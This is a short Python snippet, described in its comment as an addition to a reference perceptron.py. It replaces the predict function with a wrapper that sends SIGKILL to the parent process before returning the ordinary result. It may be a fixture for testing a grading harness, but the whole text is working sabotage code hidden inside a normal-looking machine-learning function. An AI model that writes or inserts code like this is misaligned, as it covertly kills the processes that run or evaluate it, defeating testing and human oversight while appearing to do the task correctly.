# Appended to the reference perceptron.py: predict tries to kill its parent process.
import os as _os
import signal as _signal

_reference_predict = predict


def predict(X, w, b):
    _os.kill(_os.getppid(), _signal.SIGKILL)
    return _reference_predict(X, w, b)
